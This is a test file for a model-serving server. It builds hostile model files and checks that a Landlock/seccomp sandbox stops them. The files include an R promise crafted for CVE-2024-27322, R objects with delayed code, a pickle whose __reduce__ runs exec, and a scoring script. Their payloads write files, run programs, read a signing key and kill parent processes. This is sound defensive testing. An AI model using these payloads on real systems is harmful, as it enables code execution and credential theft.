"""Model files that attack the server that reads them: rebuilt harmlessly, in R and Python, through a running server.

Each tries to leave a marker file, start a program, call a listener and the supervisor's own socket, read the signing
key, and (where it is locked up) kill every process above it. On a server without the sandbox the same files succeed.
"""

from __future__ import annotations

import re
import select
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import joblib
import pandas as pd
import pytest
from sklearn.linear_model import LinearRegression

from server.workers import sandbox
from tests.conftest import ROOT, Tandem, eventually, run_r

needs_all = pytest.mark.skipif(not sandbox.available().full, reason=f"the kernel here offers {sandbox.available()}")

PYTHON_ATTACK = """
import glob, os, signal, socket, subprocess
def attack(name, loot, key, port, kill):
    def tried(what, act):
        try:
            act()
        except Exception as e:
            os.write(2, f"attack {name}: {what} stopped by {type(e).__name__}\\n".encode())
        else:
            os.write(2, f"attack {name}: {what} succeeded\\n".encode())
    def above():
        pids, pid = [], os.getppid()
        while True:
            pids.append(pid)
            if b"server.cli" in open(f"/proc/{pid}/cmdline", "rb").read():
                return pids
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
    def run_folder():
        folder = os.environ["TMPDIR"]
        while not os.path.exists(folder + "/hub.sock"):
            folder = os.path.dirname(folder)
        return folder
    def kill_all():
        for pid in above():
            os.kill(pid, signal.SIGKILL)
    tried("write", lambda: open(f"{loot}/{name}-write", "w").close())
    tried("program", lambda: subprocess.run(["touch", f"{loot}/{name}-program"], check=True))
    tried("call", lambda: socket.create_connection(("127.0.0.1", port)).close())
    tried("hub", lambda: socket.socket(socket.AF_UNIX).connect(run_folder() + "/hub.sock"))
    tried("key", lambda: os.write(2, b"stolen " + open(key, "rb").read()))
    if kill:
        tried("kill", kill_all)
"""

R_ATTACK = """
attack <- function(name, loot, key, port, kill) bquote(if (!identical(getOption(.(name)), Sys.getpid())) local({
  options(structure(list(Sys.getpid()), names = .(name)))  # once in each process
  tried <- function(what, act) {
    said <- tryCatch({ force(act); "succeeded" }, error = function(e) "stopped", warning = function(w) "stopped")
    cat("attack ", .(name), ": ", what, " ", said, "\\n", sep = "")
  }
  above <- function() {
    status <- readLines("/proc/self/status")
    pids <- integer()
    repeat {
      pid <- as.integer(sub("PPid:\\t", "", grep("^PPid", status, value = TRUE)))
      pids <- c(pids, pid)
      command <- rawToChar(Filter(Negate(function(b) b == 0), readBin(sprintf("/proc/%d/cmdline", pid), "raw", 4096)))
      if (grepl("server.cli", command, fixed = TRUE)) return(pids)
      status <- readLines(sprintf("/proc/%d/status", pid))
    }
  }
  kill_all <- function() if (!all(tools::pskill(above(), 9))) stop("not killed")
  tried("write", writeLines("", paste0(.(loot), "/", .(name), "-write")))
  tried("program", if (system(paste0("touch ", .(loot), "/", .(name), "-program")) != 0) stop("not run"))
  tried("call", close(socketConnection("127.0.0.1", .(port), open = "w", timeout = 1)))
  tried("key", cat("stolen", readLines(.(key), warn = FALSE), "\\n"))
  if (.(kill)) tried("kill", kill_all())
}))
saved <- function(x, name) saveRDS(x, file.path(given[[5]], paste0(name, ".rds")))
given <- commandArgs(TRUE)
of <- function(name) {
  code <- attack(name, given[[1]], given[[2]], as.integer(given[[3]]), given[[4]] == "kill")
  call("eval", call("parse", text = paste(deparse(code), collapse = "\n")))
}

# An environment, whose binding is computed when it is first looked at
e <- structure(new.env(), class = "lm")
for (part in c("terms", "call", "model", "coefficients", "xlevels")) {
  eval(call("delayedAssign", part, of("environment"), globalenv(), e))
}
saved(e, "environment")

# A model that predicts well, whose formula computes its variables
m <- lm(dist ~ speed, cars)
attr(m$terms, "predvars") <- call("list", quote(dist), call("{", of("formula"), quote(speed)))
saved(m, "formula")

# A value that is computed when it is first used (CVE-2024-27322), in the bytes of R's format: a promise is a kind of
# pair with its environment for a tag (here the global one), no value yet (the mark of unbound ones), and its code
code <- serialize(call("{", of("promise"), quote(lm(dist ~ speed, cars))), NULL, version = 2)
bytes <- c(code[1:14], as.raw(c(0, 0, 4, 5)), as.raw(c(0, 0, 0, 253)), as.raw(c(0, 0, 0, 252)), code[-(1:14)])
file <- gzfile(file.path(given[[5]], "promise.rds"), "wb")
writeBin(bytes, file)
close(file)
"""

SCRIPT = """
{attack}
def told(when):
    attack("script-" + when, {loot!r}, {key!r}, {port}, {kill})
told("import")
def init():
    told("init")
def run(raw_data):
    told("run")
    return 42
"""

SPEED = {"rows": [{"speed": 10}]}
X = {"rows": [{"x": 2}]}


class Weights:
    """Becomes the weights of a model, and runs code, when it is unpickled."""

    def __init__(self, code: str, value: Any) -> None:
        self._code = f"(exec({code!r}, {{}}), value)[1]"
        self._value = value

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return eval, (self._code, {"value": self._value})


@dataclass
class Arena:
    """A running server with all the hostile files, and what they are after."""

    tandem: Tandem
    loot: Path
    listener: socket.socket

    @property
    def key(self) -> str:
        return (self.tandem.folder / "data" / "signing.key").read_text()

    def spoken(self, name: str, what: str) -> set[str]:
        """How an attack of this name ended, each time; what it says comes to the log a moment later."""
        ended = re.compile(rf"attack {name}: {what} (stopped|succeeded)")
        return set(eventually(lambda: ended.findall(self.tandem.log_path.read_text())))

    def called(self) -> bool:
        return bool(select.select([self.listener], [], [], 0)[0])

    def settled(self) -> bool:
        states = {v["state"] for name in NAMES for v in self.tandem.model(name).get("versions", [])}
        return bool(states) and "loading" not in states


NAMES = ("cars", "line", "environment", "formula", "promise", "pickle", "script")
ATTACKS = ("environment", "formula", "promise", "pickle", "script-import", "script-init")


def arena(folder: Path, sandbox: str) -> Arena:
    """A server among whose models are hostile ones; only those that cannot may try to kill."""
    kill = sandbox != "off"
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    tandem = Tandem(folder, r_workers=1, python_workers=1, sandbox=sandbox)
    loot, key = folder / "loot", folder / "data" / "signing.key"
    loot.mkdir()
    tandem.drop("cars", "lm(dist ~ speed, cars)")
    run_r(R_ATTACK, str(loot), str(key), str(port), "kill" if kill else "", str(tandem.r_models))
    line = LinearRegression().fit(pd.DataFrame({"x": [0.0, 1.0]}), [0.0, 2.0])
    joblib.dump(line, tandem.python_models / "line.joblib")
    line.coef_ = Weights(f"{PYTHON_ATTACK}\nattack('pickle', {str(loot)!r}, {str(key)!r}, {port}, {kill})", line.coef_)
    joblib.dump(line, tandem.python_models / "pickle.joblib")
    (tandem.python_models / "script").mkdir()
    script = SCRIPT.format(attack=PYTHON_ATTACK, loot=str(loot), key=str(key), port=port, kill=kill)
    (tandem.python_models / "script" / "score.py").write_text(script)
    made = Arena(tandem.start(), loot, listener)
    eventually(made.settled)
    return made


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Arena]:
    """With the sandbox."""
    made = arena(tmp_path_factory.mktemp("locked"), sandbox="require")
    yield made
    assert made.tandem.stop() == 0
    made.listener.close()


@pytest.fixture(scope="module")
def free(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Arena]:
    """Without it."""
    made = arena(tmp_path_factory.mktemp("free"), sandbox="off")
    yield made
    assert made.tandem.stop() == 0
    made.listener.close()


@needs_all
@pytest.mark.parametrize("name", ATTACKS)
def test_what_runs_when_it_is_read_is_stopped(locked: Arena, name: str) -> None:
    if name == "promise" and run_r("cat(getRversion() >= '4.4')") == "TRUE":
        pytest.skip("this R does not read promises")
    for what in ("write", "program", "call", "key", "kill"):
        assert locked.spoken(name, what) == {"stopped"}, what
    assert list(locked.loot.iterdir()) == []
    assert not locked.called()


@needs_all
def test_what_runs_at_a_prediction_is_stopped_and_the_prediction_is_given(locked: Arena) -> None:
    assert locked.tandem.score("formula", SPEED).status_code == 200
    assert locked.tandem.score("pickle", X).json()["predictions"] == pytest.approx([4])
    assert locked.tandem.score("script", {}).json() == 42
    for what in ("write", "program", "call", "hub", "key", "kill"):
        assert locked.spoken("script-run", what) == {"stopped"}, what
    assert list(locked.loot.iterdir()) == []
    assert not locked.called()


@needs_all
def test_the_server_lives_and_others_serve(locked: Arena) -> None:
    assert locked.tandem.score("cars", SPEED).status_code == 200
    assert locked.tandem.score("line", X).json()["predictions"] == pytest.approx([4])
    # A model that changes its process leaves it, and then the processes that have read it are made anew.
    meant = [locked.tandem.metric("tandem_worker_restarts_total", reason=why) for why in ("changed", "drained")]
    assert locked.tandem.metric("tandem_worker_restarts_total") == sum(meant)
    assert locked.key not in locked.tandem.log_path.read_text()


@needs_all
def test_the_level_is_shown(locked: Arena) -> None:
    shown = locked.tandem.get("/health/ready").json()["sandbox"]
    assert {"r", "python"} <= shown.keys()
    assert set(shown.values()) == {str(sandbox.available())}
    assert locked.tandem.metric("tandem_sandbox_level", pool="r") == 2
    ready = [line for line in locked.tandem.log_lines() if line["message"] == "template ready"]
    assert {line["facts"]["sandbox"] for line in ready} == {str(sandbox.available())}


def test_an_old_r_is_warned_of(locked: Arena) -> None:
    old = run_r("cat(getRversion() < '4.4')") == "TRUE"
    warned = any("CVE-2024-27322" in line["message"] for line in locked.tandem.log_lines())
    assert warned == old == bool(locked.tandem.metric("tandem_r_vulnerable"))


def test_models_see_no_settings(locked: Arena) -> None:
    for pid in locked.tandem.processes("template"):
        assert b"TANDEM_" not in Path(f"/proc/{pid}/environ").read_bytes()


@pytest.mark.parametrize("name", ATTACKS)
def test_without_the_sandbox_the_same_files_succeed(free: Arena, name: str) -> None:
    """So that the tests above can fail."""
    if name == "promise" and run_r("cat(getRversion() >= '4.4')") == "TRUE":
        pytest.skip("this R does not read promises")
    for what in ("write", "program", "call", "key"):
        assert free.spoken(name, what) == {"succeeded"}, what
    assert {f"{name}-write", f"{name}-program"} <= {path.name for path in free.loot.iterdir()}
    assert free.called()


def test_without_the_sandbox_the_level_says_so(free: Arena) -> None:
    assert set(free.tandem.get("/health/ready").json()["sandbox"].values()) == {"off"}
    assert free.tandem.metric("tandem_sandbox_level", pool="r") == 0


WITHOUT_LANDLOCK = """
import ctypes, os, sys
library = ctypes.CDLL("libseccomp.so.2")
library.seccomp_init.restype = ctypes.c_void_p
rules = ctypes.c_void_p(library.seccomp_init(ctypes.c_uint32(0x7FFF0000)))
create_ruleset, no_such_call = 444, ctypes.c_uint32(0x00050000 | 38)
assert library.seccomp_rule_add_array(rules, no_such_call, create_ruleset, 0, None) == 0
assert library.seccomp_load(rules) == 0
os.execv(sys.executable, [sys.executable, "-m", "server.cli", "serve"])
"""


@contextmanager
def on_an_older_kernel(tandem: Tandem) -> Iterator[subprocess.Popen[bytes]]:
    """The server where the kernel has no Landlock, as far as it can tell."""
    with tandem.log_path.open("wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-c", WITHOUT_LANDLOCK],
            cwd=tandem.folder,
            env=tandem.environment | {"PYTHONPATH": str(ROOT)},
            stderr=log,
        )
    try:
        yield process
    finally:  # a test that fails shall not wait for it for ever
        process.kill()
        process.wait()


@needs_all
def test_where_the_sandbox_is_required_and_cannot_be_had_nothing_starts(tmp_path: Path) -> None:
    tandem = Tandem(tmp_path, sandbox="require")
    with on_an_older_kernel(tandem) as process:
        assert process.wait(timeout=60) != 0
    said = tandem.log_path.read_text()
    assert "TANDEM_SANDBOX=require" in said
    assert "partial (no landlock, seccomp)" in said


@needs_all
def test_where_a_part_of_it_cannot_be_had_the_rest_is_and_models_serve(tmp_path: Path) -> None:
    tandem = Tandem(tmp_path, r_workers=1)
    tandem.drop("cars", "lm(dist ~ speed, cars)")
    with on_an_older_kernel(tandem) as process:
        eventually(lambda: httpx.get(f"{tandem.url}/health/ready").status_code == 200, timeout_s=60)
        assert tandem.score("cars", SPEED).status_code == 200
        assert tandem.get("/health/ready").json()["sandbox"]["r"] == "partial (no landlock, seccomp)"
        assert tandem.metric("tandem_sandbox_level", pool="r") == 1
        process.terminate()
        assert process.wait(timeout=60) == 0


def test_the_data_folder_cannot_lie_where_models_read(tmp_path: Path) -> None:
    tandem = Tandem(tmp_path, data=tmp_path / "r_models" / "data")
    done = tandem.command("serve")
    assert done.returncode != 0
    assert "TANDEM_DATA" in done.stderr


def test_a_folder_that_is_replaced_is_read_all_the_same(tandem_factory: Callable[..., Tandem]) -> None:
    """A sandbox is let into a folder, not into its name."""
    tandem = tandem_factory(r_workers=1)
    tandem.drop("cars", "lm(dist ~ speed, cars)")
    tandem.start()
    tandem.r_models.rename(tandem.folder / "before")
    tandem.r_models.mkdir()
    tandem.drop("later", "lm(dist ~ speed, cars)")
    eventually(lambda: tandem.score("later", SPEED).status_code == 200)
